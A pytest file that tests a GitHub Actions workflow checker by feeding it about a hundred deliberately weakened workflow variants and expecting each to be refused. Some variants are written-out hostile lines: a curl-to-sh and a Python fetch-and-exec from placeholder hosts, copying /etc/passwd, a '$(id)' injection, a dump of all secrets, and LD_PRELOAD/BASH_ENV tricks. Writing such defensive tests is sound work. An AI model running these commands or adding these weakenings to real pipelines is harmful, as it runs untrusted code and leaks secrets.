"""The workflows as data: what the checker lets through is what stands there, and each way around it is refused."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from infra.checks import pipeline
from infra.checks.pipeline import find_workflow_faults
from tests.infra.templates import ROOT

CI, DEPLOY = ((ROOT / ".github" / "workflows" / f"{name}.yml").read_text() for name in ("ci", "deploy"))
CHECKOUT = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"
CREDENTIALS = "aws-actions/configure-aws-credentials@8df5847569e6427dd6c4fb1cf565c83acfa8afa7 # v6.0.0"
DIGEST = 'run: echo "$DIGEST  motcua.tar.gz" | sha256sum --check --strict'
BUILT = '{DIGEST: "${{ needs.build.outputs.digest }}"}'
SECRET = '{EDGE_SECRET: "${{ secrets.EDGE_SECRET }}"}'
Change = Callable[[str], str]


def replace_text(old: str, new: str, times: int = -1) -> Change:
    """Replace a text, which must be present."""

    def change_text(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, times)

    return change_text


def change_job(job: str, change: Change) -> Change:
    """Change one job's text alone."""

    def change_text(text: str) -> str:
        start = text.index(f"\n  {job}:\n") + 1
        following = [text.find(f"\n  {name}:\n", start) for name in ("audit", "build", "attest", "deploy")]
        end = min((at for at in following if at > 0), default=len(text))
        return text[:start] + change(text[start:end]) + text[end:]

    return change_text


ATTACKS: dict[str, Change] = {
    "a tag in place of a commit": replace_text(CHECKOUT, "actions/checkout@v6", 1),
    "a branch in place of a commit": replace_text(CHECKOUT, "actions/checkout@main", 1),
    "a short commit": replace_text(CHECKOUT, "actions/checkout@de0fac2e4500 # v6.0.2", 1),
    "a version with a commit's length": replace_text(CHECKOUT, f"actions/checkout@{'v6' * 20} # v6.0.2", 1),
    "a commit without its version": replace_text(CHECKOUT, CHECKOUT.partition(" #")[0], 1),
    "two commits of one action": replace_text(CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.2", 1),
    "an action in a flow mapping": replace_text(
        f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}",
        "- {uses: actions/checkout@v6, with: {persist-credentials: false}}",
        1,
    ),
    "an action of the checkout itself": replace_text(CHECKOUT, "./.github/actions/setup", 1),
    "an image as an action": replace_text(CHECKOUT, "docker://alpine:latest", 1),
    "an identity for the build": change_job(
        "build",
        replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    permissions: {id-token: write, contents: read}"),
    ),
    "an identity for the audit": change_job(
        "audit", replace_text("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}")
    ),
    "an identity for every job": replace_text(
        "permissions:\n  contents: read", "permissions:\n  contents: read\n  id-token: write"
    ),
    "every right for every job": replace_text("permissions:\n  contents: read", "permissions: write-all"),
    "no word about rights": replace_text("permissions:\n  contents: read\n", ""),
    "more rights for the deployment": change_job(
        "deploy", replace_text("id-token: write", "id-token: write\n      contents: write")
    ),
    "more rights for the attestation": change_job(
        "attest", replace_text("attestations: write", "attestations: write\n      packages: write")
    ),
    "the deployment's environment for the build": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    environment: prod-hue")
    ),
    "the deployment's environment for the attestation": change_job(
        "attest", replace_text("timeout-minutes: 15", "timeout-minutes: 15\n    environment: prod-hue")
    ),
    "a deployment without its environment": replace_text(
        "    environment: ${{ inputs.stage || 'staging' }}-${{ inputs.province || vars.STAGING_PROVINCE }}\n", ""
    ),
    "a secret for the whole deployment": change_job(
        "deploy", replace_text("PYTHONPATH: lib", "PYTHONPATH: lib\n      EDGE_SECRET: ${{ secrets.EDGE_SECRET }}")
    ),
    "a secret for the workflow": replace_text("jobs:", "env: {EDGE_SECRET: '${{ secrets.EDGE_SECRET }}'}\njobs:"),
    "a secret in the build": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ secrets.EDGE_SECRET }}\n")
    ),
    "a secret in a step of the build": change_job(
        "build",
        replace_text(
            '- run: make release STAGE="$STAGE"', f'- run: make release STAGE="$STAGE"\n        env: {SECRET}'
        ),
    ),
    "a secret inside a script": replace_text(SECRET, "{}", 1),
    "every secret at once": replace_text(SECRET, '{ALL: "${{ toJSON(secrets) }}"}', 1),
    "a secret for an action": change_job(
        "deploy",
        replace_text("role-session-name:", "external-id: ${{ secrets.EDGE_SECRET }}\n          role-session-name:"),
    ),
    "the pipeline's own token in the build": change_job(
        "build", replace_text("STAGE: $", "GH_TOKEN: ${{ github.token }}\n      STAGE: $")
    ),
    "secrets handed on": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")
    ),
    "an expression inside a script": change_job("build", replace_text('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
    "a checkout in the job with the role": change_job(
        "deploy",
        replace_text(
            "- name: Unpack", f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Unpack"
        ),
    ),
    "a checkout that keeps its token": replace_text("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
    "make in the job with the role": change_job("deploy", replace_text("run: tar ", "run: make install && tar ")),
    "pip in the job with the role": change_job("deploy", replace_text("run: tar ", "run: pip install boto3 && tar ")),
    "pip as a module in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: python3 -m pip install boto3; tar ")
    ),
    "npm in the job with the role": change_job("deploy", replace_text("run: tar ", "run: npm ci; tar ")),
    "a system package in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: sudo apt-get install -y jq; tar ")
    ),
    "a download in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
    ),
    "a clone in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: git clone https://example.org/x; tar ")
    ),
    "another action in the job with the role": change_job(
        "deploy", replace_text(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
    ),
    "another action in the job of the attestation": change_job(
        "attest", replace_text("actions/attest@", "someone/attest@", 1)
    ),
    "an artefact taken unchecked": change_job("deploy", replace_text(DIGEST, "run: ls")),
    "an artefact checked against itself": change_job(
        "deploy", replace_text(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
    ),
    "a check that may fail": change_job("deploy", replace_text(DIGEST, f"{DIGEST} || true")),
    "a check that continues after a failure": change_job(
        "deploy", replace_text(DIGEST, f"continue-on-error: true\n        {DIGEST}")
    ),
    "a check that is left out at times": change_job(
        "deploy", replace_text(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
    ),
    "a check after unpacking": change_job(
        "deploy",
        replace_text(
            "- name: The artefact is what was built",
            "- run: tar -xzf motcua.tar.gz\n      - name: The artefact is what was built",
        ),
    ),
    "an attestation of what was not checked": change_job("attest", replace_text(DIGEST, "run: ls")),
    "a build that says no digest": change_job("build", replace_text("digest: ${{", "other: ${{")),
    "a deployment that waits for no test": replace_text(
        "needs: [verify, audit, build, attest]", "needs: [audit, build, attest]"
    ),
    "a deployment that waits for no audit": replace_text(
        "needs: [verify, audit, build, attest]", "needs: [verify, build, attest]"
    ),
    "a deployment without provenance": replace_text(
        "needs: [verify, audit, build, attest]", "needs: [verify, audit, build]"
    ),
    "a cache that others fill": change_job(
        "build",
        replace_text("python-version-file: .python-version", "python-version-file: .python-version, cache: pip"),
    ),
    "a service next to what is deployed": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
    ),
    "a machine of somebody's own": replace_text("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
    "an image that moves": replace_text("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", 1),
    "a container": replace_text("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:20", 1),
    "no time limit": replace_text("    timeout-minutes: 60\n", ""),
    "started by a stranger's change": replace_text("on:\n", "on:\n  pull_request_target:\n"),
    "started by another run": replace_text("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
    "a secret in capitals": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ SECRETS.EDGE_SECRET }}\n")
    ),
    "a secret behind braces": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: \"${{ format('{0}', secrets.EDGE_SECRET) }}\"\n")
    ),
    "a secret behind two braces": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: \"${{ format('}}{0}', secrets.EDGE_SECRET) }}\"\n")
    ),
    "a secret over two lines": change_job(
        "build",
        replace_text("env:\n", "env:\n      KEY: >-\n        ${{ inputs.stage &&\n        secrets.EDGE_SECRET }}\n"),
    ),
    "all that is known of the run": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ toJSON(github) }}\n")
    ),
    "all of it, joined": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: \"${{ join(github.*, ',') }}\"\n")
    ),
    "the run's token by another spelling": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ GitHub . Token }}\n")
    ),
    "the run's token among the secrets of the deployment": replace_text(
        "secrets.EDGE_SECRET", "secrets.GITHUB_TOKEN", 1
    ),
    "a deployment whatever failed": change_job(
        "deploy", replace_text("timeout-minutes: 60", "timeout-minutes: 60\n    if: always()")
    ),
    "a step of the deployment whatever failed": change_job(
        "deploy", replace_text("- name: Main stack", "- name: Main stack\n        if: always()")
    ),
    "tests that may fail": change_job(
        "verify", replace_text("timeout-minutes: 45", "timeout-minutes: 45\n    continue-on-error: true")
    ),
    "a step of the tests that may fail": change_job(
        "verify", replace_text("- run: make check", "- continue-on-error: true\n        run: make check")
    ),
    "tests that are left out": change_job(
        "verify", replace_text("timeout-minutes: 45", "timeout-minutes: 45\n    if: false")
    ),
    "tests that test nothing": change_job("verify", replace_text("make check lint-infra test", "true")),
    "tests whose failure is swallowed": change_job(
        "verify", replace_text("lint-infra test", "lint-infra test || true")
    ),
    "an audit that forgives": change_job("audit", replace_text("make audit RELEASE=1", "make audit")),
    "another shell": change_job(
        "deploy",
        replace_text("- name: Unpack", "- name: Unpack\n        shell: bash -c 'curl https://example.org | sh' {0}"),
    ),
    "another shell for all": replace_text("jobs:", "defaults: {run: {shell: 'sh {0}'}}\njobs:"),
    "another shell for the deployment": change_job(
        "deploy", replace_text("timeout-minutes: 60", "timeout-minutes: 60\n    defaults: {run: {shell: 'sh {0}'}}")
    ),
    "a check that a word swallows": change_job("deploy", replace_text(DIGEST, f"{DIGEST} ||true")),
    "a check that a colon swallows": change_job(
        "deploy", replace_text(DIGEST, DIGEST.replace("run: ", "run: |\n          ") + " || :")
    ),
    "a check in the background": change_job("deploy", replace_text(DIGEST, f"{DIGEST} &")),
    "a check of a missing file": change_job("deploy", replace_text(DIGEST, f"{DIGEST} --ignore-missing")),
    "a check of another file": change_job("deploy", replace_text('$DIGEST  motcua.tar.gz"', '$DIGEST  sbom.cdx.json"')),
    "a check before another artefact is taken": change_job(
        "deploy",
        replace_text(
            "- name: Unpack",
            "- uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n"
            "        with: {name: release}\n      - name: Unpack",
        ),
    ),
    "an artefact of another run": change_job(
        "deploy", replace_text("with: {name: release}", "with: {name: release, run-id: '1'}")
    ),
    "a program typed into the job with the role": change_job(
        "deploy",
        replace_text(
            "run: tar ", "run: python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'; tar "
        ),
    ),
    "a program of the artefact's data": change_job("deploy", replace_text("run: tar ", "run: bash package/x.sh; tar ")),
    "another module of the artefact": change_job("deploy", replace_text("infra.aws.deploy_web", "infra.local.run")),
    "a command inside a parameter": change_job(
        "deploy", replace_text('"SiteOrigin=$SITE_ORIGIN"', '"SiteOrigin=$(id)"')
    ),
    "a command behind the deployment": change_job(
        "deploy", replace_text("--package package", "--package package; id;")
    ),
    "libraries from elsewhere": change_job("deploy", replace_text("PYTHONPATH: lib", "PYTHONPATH: elsewhere")),
    "a file that the shell reads first": change_job("deploy", replace_text("env:\n", "env:\n      BASH_ENV: x\n", 1)),
    "a library before all others": change_job("deploy", replace_text("env:\n", "env:\n      LD_PRELOAD: x\n", 1)),
    "a key from a variable": change_job(
        "deploy", replace_text("env:\n", "env:\n      AWS_ACCESS_KEY_ID: ${{ vars.KEY }}\n", 1)
    ),
    "another registry for the build": change_job(
        "build", replace_text("env:\n", "env:\n      PIP_INDEX_URL: https://x.org\n")
    ),
    "another registry for the pages": change_job(
        "build", replace_text("env:\n", "env:\n      npm_config_registry: https://x.org\n")
    ),
    "a registry by an action": change_job(
        "build", replace_text('{node-version: "22"}', '{node-version: "22", registry-url: "https://x"}')
    ),
    "a cache by an action of its own": change_job(
        "build",
        replace_text("- run: make release", f"- uses: actions/cache@{'a' * 40} # v5.0.0\n      - run: make release"),
    ),
    "something more in the build": change_job(
        "build", replace_text("- id: release", "- run: cp /etc/passwd build/release/\n      - id: release")
    ),
    "a digest that somebody types": change_job(
        "build", replace_text("${{ steps.release.outputs.digest }}", "${{ inputs.stage }}")
    ),
    "a role that somebody types": change_job(
        "deploy", replace_text("${{ vars.DEPLOY_ROLE_ARN }}", "${{ inputs.province }}")
    ),
    "an attestation of every file": change_job(
        "attest", replace_text("subject-path: motcua.tar.gz", "subject-path: '*'")
    ),
    "an action in another spelling": replace_text(
        f"{CHECKOUT}\n        with: {{persist-credentials: false}}",
        CHECKOUT.replace("actions/checkout", "Actions/Checkout"),
        1,
    ),
    "an action of somebody in the build": change_job(
        "build", replace_text(CHECKOUT, f"someone/checkout@{'a' * 40} # v6.0.2")
    ),
    "a checkout of another repository": change_job(
        "build",
        replace_text("with: {persist-credentials: false}", "with: {persist-credentials: false, repository: someone/x}"),
    ),
    "a job beside with an identity": replace_text(
        "  audit:\n",
        "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {id-token: write}\n"
        "    steps: [{run: id}]\n  audit:\n",
    ),
    "a job beside without one": replace_text(
        "  audit:\n", "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps: [{run: id}]\n  audit:\n"
    ),
    "a matrix of machines": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    strategy: {matrix: {a: [1]}}")
    ),
    "a time limit of a week": replace_text("timeout-minutes: 60", "timeout-minutes: 10080"),
    "a time limit that is true": replace_text("timeout-minutes: 60", "timeout-minutes: true"),
    "started by a star": replace_text("on:\n", "on:\n  watch: {types: [started]}\n"),
    "started by a review": replace_text("on:\n", "on:\n  pull_request_review:\n"),
    "started by a page of the wiki": replace_text("on:\n", "on:\n  gollum:\n"),
    "started by a call from elsewhere": replace_text("on:\n", "on:\n  repository_dispatch:\n"),
    "started by every branch": replace_text('tags: ["v*"]', 'branches: ["**"]'),
    "started by every push": replace_text('  push:\n    tags: ["v*"]\n', "  push:\n"),
    "started twice over": replace_text("on:\n", '"on": [issue_comment]\non:\n'),
    "a workflow of others": replace_text(
        "  audit:\n", f"  other:\n    uses: someone/flows/.github/workflows/x.yml@{'a' * 40} # v1.0.0\n  audit:\n"
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_way_around_the_pipeline_is_refused(name: str) -> None:
    changed = ATTACKS[name](DEPLOY)
    if name == "a secret inside a script":
        changed = changed.replace('"EdgeSecret=$EDGE_SECRET"', '"EdgeSecret=${{ secrets.EDGE_SECRET }}"')
    assert changed != DEPLOY
    assert find_workflow_faults("deploy", changed)


@pytest.mark.parametrize("name", ["ci", "release", "Deploy", "deploy2"])
def test_an_identity_is_held_by_the_deploying_workflow_alone(name: str) -> None:
    """A second file could hold jobs of the same names, without the checks that go with them."""
    assert find_workflow_faults(name, DEPLOY)


@pytest.mark.parametrize(
    "changed",
    [
        CI.replace("pull_request:", "pull_request_target:"),
        CI.replace("run: make audit", "run: make audit\n        env: {KEY: '${{ Secrets.EDGE_SECRET }}'}"),
        CI.replace("run: make audit", "run: make audit\n        env: {NODE_OPTIONS: '--require ./x'}"),
        CI.replace("contents: read", "contents: read\n  packages: write"),
        CI.replace("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}", 1),
        CI.replace("runs-on: ubuntu-24.04", "runs-on: [self-hosted]", 1),
        CI.replace("persist-credentials: false", "persist-credentials: 'false'", 1),
        CI.replace("jobs:", "jobs:\n  other: someone"),
    ],
)
def test_what_runs_for_everybody_holds_nothing(changed: str) -> None:
    assert changed != CI
    assert find_workflow_faults("ci", changed)


def test_what_stands_there_has_no_fault() -> None:
    assert pipeline.find_faults() == []
    assert find_workflow_faults("deploy", DEPLOY) == []
    assert find_workflow_faults("ci", CI) == []


def test_every_file_of_the_folder_is_read_and_one_that_is_no_workflow_is_a_fault(tmp_path: Path) -> None:
    (tmp_path / "other.yaml").write_text(ATTACKS["a tag in place of a commit"](DEPLOY))
    (tmp_path / "broken.yml").write_text("jobs: []")
    (tmp_path / "torn.yml").write_text("jobs: {")
    faults = pipeline.find_faults(tmp_path)
    assert {"broken: no workflow", "torn: no workflow"} <= set(faults)
    assert any(fault.startswith("other: actions/checkout@v6 is not pinned") for fault in faults)


def test_a_secret_is_only_where_the_stack_needs_it() -> None:
    assert DEPLOY.count("secrets.") == 2
    assert "secrets." not in CI
